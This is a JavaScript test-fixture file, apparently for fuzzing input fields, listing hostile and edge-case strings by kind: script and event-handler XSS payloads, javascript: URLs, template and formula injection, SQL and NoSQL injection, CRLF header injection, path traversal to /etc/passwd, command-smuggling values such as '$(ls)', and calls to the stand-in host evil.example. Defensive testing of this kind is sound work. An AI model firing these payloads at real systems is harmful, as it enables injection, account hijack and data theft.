// What somebody may type into a field who means no good, or means well and is called so: by kinds, each with what it tries.

/** What a script says that runs. */
const HIT = '__hit()';
/** A product that a template that computes would write. */
const SUM = '1337*7';
export const COMPUTED = /9359/;
/** A header that a mail would have whose head was broken open. */
export const INJECTED = 'X-Injected';

const repeated = (what, times) => what.repeat(times);
/** Marks above and below each letter, as many as somebody likes. */
const burdened = (word, marks) => [...word].map((letter) => letter + repeated('\u0300\u0316\u0334\u0489\u035b', marks)).join('');

const tags = [
  `<script>${HIT}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>${HIT}</scr</script>ipt>`, `</title><script>${HIT}</script>`,
  `</textarea><script>${HIT}</script>`, `</style><script>${HIT}</script>`, `--><script>${HIT}</script><!--`, `<![CDATA[<script>${HIT}</script>]]>`,
  `<script\u0000>${HIT}</script>`, `<script/x>${HIT}</script>`, `<script\n>${HIT}</script\n>`, `\uff1cscript\uff1e${HIT}\uff1c/script\uff1e`,
  `%3Cscript%3E${HIT}%3C/script%3E`, `&lt;script&gt;${HIT}&lt;/script&gt;`, `&#60;script&#62;${HIT}&#60;/script&#62;`, `\\u003cscript\\u003e${HIT}`,
  '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none}</style>', '<plaintext>', '<xmp>', '<noscript>', '<template>', '<!--', '<?php echo 1337*7; ?>', '<% out.print(1337*7); %>',
  '<form action="https://evil.example/"><input name="a"><button>Sign in</button></form>', '</form><form action="//evil.example">', '<h1>Another heading</h1>',
  '<b>bold</b><i>slanted</i>', '<a href="https://evil.example/">click</a>', '<textarea>', '<select><option>', '</main></body></html>', '<table><tr><td>',
];
const handlers = [
  ['img src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['input autofocus', 'onfocus'], ['details open', 'ontoggle'], ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'], ['iframe src="data:text/html,x"', 'onload'], ['marquee', 'onstart'], ['select autofocus', 'onfocus'], ['object data=x', 'onerror'],
  ['style', 'onload'], ['link rel=stylesheet href=data:,', 'onload'], ['image src=x', 'onerror'], ['button autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'],
].map(([tag, event]) => `<${tag} ${event}=${HIT}>`);
const attributes = [
  `" onfocus="${HIT}" autofocus="`, `' onfocus='${HIT}' autofocus='`, `" onmouseover="${HIT}" style="position:fixed;inset:0`, `\` onfocus=${HIT} autofocus \``,
  `"><img src=x onerror=${HIT}>`, `'><img src=x onerror=${HIT}>`, `"/><svg onload=${HIT}>`, `" style="width:9999px" x="`, `" hidden x="`, `" aria-label="x`,
  `">${HIT}`, `x" onerror=${HIT} "`, `\\"><script>${HIT}</script>`, `\\';${HIT}//`, `';${HIT};'`, `";${HIT};"`, `\`;${HIT};\``, `"-${HIT}-"`, `\${${HIT}}`, `" href="javascript:${HIT}`,
];
const addresses = [
  `javascript:${HIT}`, `JaVaScRiPt:${HIT}`, `java\tscript:${HIT}`, `java\nscript:${HIT}`, `\u0001javascript:${HIT}`, ` javascript:${HIT}`, `javascript://%0a${HIT}`,
  `data:text/html,<script>${HIT}</script>`, `data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+`, `vbscript:${HIT}`, '//evil.example/x', 'https://evil.example/?a=b&c=d',
  'https://user:word@evil.example@127.0.0.1/', 'http://[::1]/', 'file:///etc/passwd', 'view-source:https://evil.example', 'mailto:x@evil.example?bcc=y@evil.example', 'tel:+1900;x',
];
const templates = [
  `{{${SUM}}}`, `{{ ${SUM} }}`, `{{{${SUM}}}}`, `\${${SUM}}`, `#{${SUM}}`, `<%= ${SUM} %>`, `{% if 1 %}${SUM}{% endif %}`, `[[${SUM}]]`, `*{${SUM}}`, `@(${SUM})`, `$(( ${SUM} ))`, `$(echo 9)`,
  '{{ first_name }}', '{{ greeting }} {{ stop_url }}', '{{name}', '}}{{', '{{#each x}}', '{{constructor.constructor("__hit()")()}}', '{{ "a" | upper }}', '{# a remark #}',
];
const fluent = [
  '{ $name }', '{$name}', '{ NUMBER(1337) }', '{ -brand }', '{ message.attribute }', '{ "quoted" }', '{ $count -> [one] x *[other] y }', '{', '}', '{}', '{ DATETIME($x) }', 'key = value', '# remark',
];
const markdown = [
  '# Heading', '**bold** _slanted_', `[click](javascript:${HIT})`, `![x](https://evil.example/x.png)`, '`code`', '```\ncode\n```', '> quoted', '- one\n- two', '1. one', '| a | b |\n|---|---|', '---', '***',
  '<https://evil.example/>', '[x]: https://evil.example/', '\\*escaped\\*', '~~struck~~', 'a  \nb', '[x](<javascript:__hit()>)',
];
const directions = [
  '\u202eangel\u202c', '\u202e\u202d\u202a\u202b', '\u2066\u2067\u2068x', 'Ana\u202emoc.elpmaxe', '\u061c\u200f\u200eAna', 'שלום', 'مرحبا بالعالم', 'Ana שלום 123 مرحبا',
  '\u200b\u200b\u200b', 'A\u200bn\u200ca\u200d', '\ufeffAna', '\u2060Ana\u2060', 'A\u00adn\u00ada', '\u180eAna', '\u3164', '\u115f\u1160', '\u2800\u2800', '\u00a0\u00a0Ana\u00a0', '\u{e0041}\u{e006e}\u{e0061}', '\ufff9x\ufffay\ufffb',
];
const marks = [
  burdened('Ana', 1), burdened('Ana Silva', 6), burdened('A', 60), repeated('\u0336', 50), `a${repeated('\u20dd', 20)}`, '\u0301', 'e\u0301 \u00e9', 'ﷺ', '𒐫𒐫𒐫', '꧁Ana꧂', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
];
const lengths = [
  repeated('a', 200), repeated('W', 200), repeated('a', 10_000), repeated('ab ', 3_000), repeated('-', 500), repeated('_', 300), repeated('.', 300), repeated('/', 300), repeated('漢', 200), repeated('ﷺ', 100),
  repeated('👩‍👩‍👧‍👦', 60), repeated('&', 200), repeated('<', 200), repeated('"', 200), repeated('&amp;', 100), repeated('\u00a0', 150) + 'x', repeated('x\u00a0', 90), repeated('\u202f9', 90), repeated('\u2011x', 90), repeated('1234567890', 40),
  `https://example.com/${repeated('long', 400)}`, `${repeated('x', 180)}@example.com`, 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft',
];
const pictures = ['👩‍👩‍👧‍👦', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '👍🏿', '🇺🇸🇩🇪🇪🇸', '1️⃣', '☃️', '\ud83d', '\udc4d', '🫠🫠🫠', '👁️‍🗨️', '\ufe0f', '🏳️‍🌈 Ana'];
const controls = [
  'Ana\u0000Silva', '\u0000', '\u0007bell', '\u001b[31mred\u001b[0m', '\u0008\u0008', '\u007f', '\u0085next', '\u2028line\u2029', 'a\tb', 'a\u000bb\u000cc', '\u0001\u0002\u0003', '\ufffd', '\ufffe\uffff', '\u009b31m',
];
const headers = [
  `Ana\r\n${INJECTED}: yes`, `Ana\n${INJECTED}: yes`, `Ana\r${INJECTED}: yes`, `Ana\r\n\r\n<script>${HIT}</script>`, `Ana%0d%0a${INJECTED}:%20yes`, `Ana\u2028${INJECTED}: yes`, `Ana\r\nBcc: all@evil.example`,
  'Ana\r\n.\r\nMAIL FROM:<x@evil.example>', '"Ana" <x@evil.example>', 'Ana <x@evil.example>, y@evil.example', '=?utf-8?q?=0d=0aX-Injected:_yes?=', '=?UTF-8?B?PHNjcmlwdD4=?=', 'Ana; x=y', '(remark) Ana', 'Ana\\', 'Ana:;,', 'undisclosed-recipients:;', '\u0085X-Injected: yes',
];
const cells = [
  "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/","x")', '+cmd|x', '-2+3+cmd|x', '@SUM(1+9)*cmd|x', '\t=1+1', '\r=1+1', '\n=1+1', '"=1+1"', '","=1+1', ';=1+1', "'=1+1", '=1+1";=1+1', '%0A=1+1', '\uff1d1+1',
];
const queries = [
  "' OR '1'='1", "'; DROP TABLE leads; --", '" OR ""="', "1; SELECT 1", "admin'--", "' UNION SELECT NULL--", '{"$ne": null}', '{"S":"x"}', 'L#1', 'attribute_exists(pk)', '#n = :v', '*', '%', '_', '\\', 'null', 'undefined', 'NaN', 'true', '0', '-1', '1e309', '[object Object]',
];
const paths = ['../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', '%2e%2e%2f', '....//....//', '/desk/board', '?done=x', '#top', '&lead=x', 'C:\\', 'CON', 'a/b/c', '%00', ';ls', '|ls', '`ls`', '$(ls)', '&& ls'];
const names = ["O'Hara", 'Null', 'Jean-Luc', 'Þór', 'Nguyễn Thị', 'Ng', 'X Æ A-12', 'Dr. & Mrs. <Smith>', 'María-José de la Cruz y Ortega', 'ß', 'İstanbul', '李 小龙', 'Test', 'O’Brien “the boss”', '½', 'a'];

/** All that is tried at each change: each once. */
export const ATTACKS = [...new Set([
  tags, handlers, attributes, addresses, templates, fluent, markdown, directions, marks, lengths, pictures, controls, headers, cells, queries, paths, names,
].flat())];

/** Numbers that look as if they were drawn, the same for the same seed (mulberry32). */
export function drawn(seed) {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

/** What comes of two of them, one before, after or within the other. */
export function combined(draw) {
  const [one, other] = [ATTACKS[draw(ATTACKS.length)], ATTACKS[draw(ATTACKS.length)]];
  const at = draw(one.length + 1);
  return [() => one + other, () => `${other} ${one}`, () => one.slice(0, at) + other + one.slice(at), () => `${one}\n${other}`][draw(4)]();
}
